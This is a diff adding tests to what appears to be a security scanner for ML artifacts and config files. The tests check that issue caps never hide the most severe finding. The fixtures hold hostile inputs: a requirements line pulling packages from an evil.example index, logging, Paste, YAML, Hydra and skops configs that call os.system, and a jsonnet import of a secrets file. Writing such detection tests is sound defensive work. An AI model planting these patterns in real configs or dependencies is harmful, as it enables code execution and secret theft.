@@ -22,6 +22,7 @@ from __future__ import annotations
 
 import bz2
 import gzip
+import json
 import lzma
 import struct
 from pathlib import Path
@@ -296,3 +297,52 @@ def test_edit_distance_reference() -> None:
     assert normalise("Scikit__Learn.x") == "scikit-learn-x"
     assert likely_intended("requests") is None and likely_intended("six") is None
 
+
+
+# --- issue caps: the first N issues were kept, so N mild ones hid a worse one after them ----------------------------
+
+def _skops_schema() -> str:
+    """A skops schema: 200 distinct allowlisted classes, then (walked last) ``os.system``."""
+    from mlsecure.artifacts.scan.allowlist import ALLOWLIST
+
+    harmless = [{"__loader__": "ObjectNode", "__module__": m, "__class__": n, "content": {}}
+                for m, n in list(ALLOWLIST)[:200]]
+    evil = {"__loader__": "ObjectNode", "__module__": "os", "__class__": "system", "content": {}}
+    return json.dumps({"__loader__": "ObjectNode", "__module__": "sklearn.pipeline", "__class__": "Pipeline",
+                       "content": {"steps": [evil, *harmless]}, "protocol": 2, "_skops_version": "0.10"})
+
+
+CAPPED = {
+    "requirements": ("requirements.txt", "".join(f"./pkgs/p{i}\n" for i in range(50))
+                     + "--extra-index-url http://evil.example/simple\n", Severity.HIGH),
+    "logging-ini": ("logging.ini", "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\n"
+                    "level=INFO\nhandlers=h\n" + "".join(f"[handler_u{i}]\nclass=mypkg.H{i}\n" for i in range(50))
+                    + "[handler_h]\nclass=os.system\nargs=('id',)\n", Severity.CRITICAL),
+    "dict-config": ("log.json", json.dumps({"version": 1, "handlers": {  # the walk pops the last pushed first
+        "a": {"()": "os.system", "command": "id"}, **{f"u{i}": {"()": f"mypkg.make{i}"} for i in range(50)}}}),
+        Severity.CRITICAL),
+    "paste": ("production.ini", "".join(f"[app:a{i}]\nuse = egg:A{i}\n" for i in range(50))
+              + "[app:main]\nuse = call:os:system\n", Severity.CRITICAL),
+    "jsonnet": ("config.jsonnet", "{\n" + "".join(f"  a{i}: import |||\n    x\n|||,\n" for i in range(50))
+                + '  z: importstr "../../secrets.json",\n}\n', Severity.HIGH),
+    "interpolations": ("config.yaml", "cmd: '" + "${my.res:1} " * 20 + "${eval:__import__(\"os\").system(\"id\")}'\n",
+                       Severity.HIGH),
+    "skops-schema": ("schema.json", _skops_schema(), Severity.CRITICAL),
+}
+
+
+@pytest.mark.parametrize("case", sorted(CAPPED))
+def test_issue_caps_keep_the_worst(tmp_path: Path, case: str) -> None:
+    name, text, severity = CAPPED[case]
+    _verdict, worst, titles = scan_named(tmp_path, name, text)
+    assert worst == severity, titles[-3:]
+
+
+def test_compressed_text_keeps_dangerous_names_only(tmp_path: Path) -> None:
+    """No config loader decompresses by itself: in compressed text a "not verified" medium is low (a gzipped botocore
+    ``service-2.json`` quoting ``${transfer:UserName}`` in its documentation), a dangerous name keeps its severity."""
+    docs = json.dumps({"shapes": {"Policy": {"documentation": "use ${transfer:UserName} in the policy"}}})
+    verdict, worst, titles = scan_named(tmp_path, "service-2.json.gz", gzip.compress(docs.encode()))
+    assert verdict is Verdict.SAFE and worst is Severity.LOW, titles
+    verdict, worst, titles = scan_named(tmp_path, "config.yaml.gz", gzip.compress(b"_target_: os.system\n"))
+    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.CRITICAL), titles
